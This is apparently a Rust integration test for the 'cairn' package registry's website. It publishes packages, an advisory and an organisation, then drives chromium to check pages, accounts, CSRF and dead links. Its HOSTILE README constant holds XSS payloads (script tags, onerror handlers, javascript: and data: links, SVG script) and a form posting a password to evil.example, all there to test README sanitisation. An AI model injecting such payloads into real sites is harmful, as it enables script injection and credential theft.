//! The web site in a real browser: a registry with packages (one yanked
//! version, dependencies, a hostile README, counted downloads, an
//! advisory, an organisation), its pages rebuilt, then `tools/site-test/site.mjs` drives
//! Debian's chromium through playwright-core against the running
//! `cairn serve`: pages, search as you type, JavaScript off, accounts,
//! tokens, device login, CSRF, axe-core. Screenshots go to
//! `{target}/site-screenshots/`.

use crate::support;

use cairn::archive::builder::TarballBuilder;
use serde_json::Value;
use std::path::Path;
use std::process::Command;
use support::Server;

fn cairn(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_cairn")).args(args).output().unwrap()
}

const README: &str = "# libbase\n\nThe base of everything.\n\n| feature | state |\n|---|---|\n| tables | yes |\n\n- [x] task lists\n- [ ] ~~strikethrough~~ done\n\nSee [the guide](docs/guide.md).\n";

/// Script tags, event attributes, `javascript:` links, an SVG carrying
/// script, a style that would cover the page, a frame and a form: each
/// would set `window.__pwned` or take over the page if it survived.
const HOSTILE: &str = r#"# hostile

<script>window.__pwned = 'script';</script>
<img src="/nope.png" onerror="window.__pwned = 'onerror'">
<a id="js-link" href="javascript:window.__pwned='link'">click me</a>
<svg><script>window.__pwned = 'svg'</script><circle onload="window.__pwned='svg-onload'"/></svg>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999" id="overlay">covered</div>
<iframe src="javascript:parent.__pwned='iframe'"></iframe>
<form action="https://evil.example/steal"><input name="password"></form>
<a href="data:text/html,<script>alert(1)</script>">data link</a>
<object data="/x.swf"></object>

[markdown js](javascript:window.__pwned='md')

Plain text survives.
"#;

fn publish(server: &Server, name: &str, version: &str, manifest_extra: &str, readme: &str) -> String {
    let manifest = format!(
        "[package]\nname = \"{name}\"\nversion = \"{version}\"\ndescription = \"The {name} package\"\nlicense = \"MIT\"\nrepository = \"https://github.com/example/{name}\"\nkeywords = [\"base\"]\n{manifest_extra}"
    );
    let body =
        TarballBuilder::new(name, version).manifest(manifest).file("README.md", readme.as_bytes()).gzip();
    let resp = server.put(name, version, server.token.as_ref().unwrap(), body, "application/gzip");
    assert_eq!(resp.status(), 201, "{name} {version}: {}", resp.text().unwrap());
    resp.json::<Value>().unwrap()["sha256"].as_str().unwrap().to_string()
}

/// Downloads on three recent days, in the combined log format.
fn access_log(dir: &Path, shas: &[&str]) -> std::path::PathBuf {
    let today = chrono::Utc::now().date_naive();
    let mut log = String::new();
    for (i, sha) in shas.iter().enumerate() {
        for back in 0..3u64 {
            let day = today - chrono::Days::new(back + 1);
            let ts = day.format("%d/%b/%Y:12:00:00 +0000");
            for n in 0..(i as u64 + 1) * (back + 1) {
                log.push_str(&format!(
                    "10.0.0.{n} - - [{ts}] \"GET /blobs/sha256/{sha} HTTP/1.1\" 200 5120 \"-\" \"cargo/1.80.0\"\n"
                ));
            }
        }
    }
    let path = dir.join("access.log");
    std::fs::write(&path, log).unwrap();
    path
}

#[test]
fn the_site_in_a_browser() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    // Sign-up open: the browser makes its own account.
    let token = Server::start(&data).token.clone();
    support::set_config(&data, &[(r#"signup = "closed""#, r#"signup = "open""#)]);
    let mut server = Server::start(&data);
    server.token = token;
    let base_sha = publish(&server, "libbase", "1.0.0", "", README);
    publish(&server, "libbase", "1.1.0", "", README);
    publish(&server, "libbase", "1.2.0", "", README);
    let yank = support::client()
        .delete(format!("{}/api/v1/packages/libbase/1.1.0", server.url))
        .bearer_auth(server.token.as_ref().unwrap())
        .send()
        .unwrap();
    assert_eq!(yank.status(), 200);
    let kit_sha = publish(
        &server,
        "app-kit",
        "0.3.0",
        "\n[dependencies]\nlibbase = \"1.0\"\n",
        "# app-kit\n\nBuilds apps.\n",
    );
    publish(&server, "hostile", "0.1.0", "", HOSTILE);
    // An organisation co-owns app-kit (its page, `/o/acme`, lists it).
    let api = |method: reqwest::Method, path: &str, body: Value| {
        let resp = support::client()
            .request(method, format!("{}/api/v1{path}", server.url))
            .bearer_auth(server.token.as_ref().unwrap())
            .json(&body)
            .send()
            .unwrap();
        assert!(resp.status().is_success(), "{path}: {}", resp.text().unwrap());
    };
    api(reqwest::Method::POST, "/orgs", serde_json::json!({ "slug": "acme", "name": "Acme Tools" }));
    api(reqwest::Method::PUT, "/packages/app-kit/owners", serde_json::json!({ "users": ["org:acme"] }));

    let advisory = dir.path().join("advisory.json");
    std::fs::write(
        &advisory,
        r#"{"id":"CAIRN-2026-0007","modified":"2026-11-01T00:00:00Z","summary":"libbase 1.0 parses input unsafely","affected":[{"package":{"name":"libbase"},"ranges":[{"type":"SEMVER","events":[{"introduced":"1.0.0"},{"fixed":"1.1.0"}]}]}]}"#,
    )
    .unwrap();
    let d = data.to_str().unwrap();
    let out = cairn(&["admin", "advisory", "add", advisory.to_str().unwrap(), "--data", d]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let log = access_log(dir.path(), &[&base_sha, &kit_sha]);
    let out = cairn(&["rebuild", "all", "--data", d, "--access-log", log.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    let shots = Path::new(env!("CARGO_TARGET_TMPDIR")).parent().unwrap().join("site-screenshots");
    std::fs::create_dir_all(&shots).unwrap();
    let home = tempfile::tempdir().unwrap();
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tools/site-test/site.mjs");
    let out = Command::new("node")
        .arg(script)
        .current_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/tools/site-test"))
        .env("CAIRN_URL", &server.url)
        .env("CAIRN_TOKEN", server.token.as_ref().unwrap())
        .env("CAIRN_BIN", env!("CARGO_BIN_EXE_cairn"))
        .env("CAIRN_CLI_HOME", home.path())
        .env("SCREENSHOTS", &shots)
        .output()
        .expect("node runs (tools/test.sh installs it, chromium and tools/site-test's packages)");
    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    println!("{stdout}");
    assert!(out.status.success(), "the browser checks failed:\n{stdout}\n{stderr}");
    assert!(stdout.contains("checks passed"), "{stdout}");
}

/// Right after the first publish on a default registry (no job has run),
/// every link of every page answers: a crawl in chromium from `/` follows
/// each same-origin link and fails on any 4xx (the header's Stats and
/// Advisories, the owner's page, the log and key links among them).
#[test]
fn no_dead_link_after_the_first_publish() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("data"));
    let body = TarballBuilder::new("first-one", "0.1.0").file("README.md", b"# first-one\n\nHello.\n").gzip();
    let resp = server.put("first-one", "0.1.0", server.token.as_ref().unwrap(), body, "application/gzip");
    assert_eq!(resp.status(), 201, "{}", resp.text().unwrap());
    let out = Command::new("node")
        .arg(concat!(env!("CARGO_MANIFEST_DIR"), "/tools/site-test/crawl.mjs"))
        .current_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/tools/site-test"))
        .env("CAIRN_URL", &server.url)
        .output()
        .expect("node runs (tools/test.sh installs it, chromium and tools/site-test's packages)");
    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success(), "the crawl found dead links:\n{stdout}\n{stderr}");
    assert!(stdout.contains("no dead link"), "{stdout}");
    // The crawl reached the pages that used to answer 404 until a job ran.
    let crawled: usize = stdout.split_whitespace().nth(1).and_then(|n| n.parse().ok()).unwrap_or(0);
    assert!(crawled >= 8, "{stdout}");
}
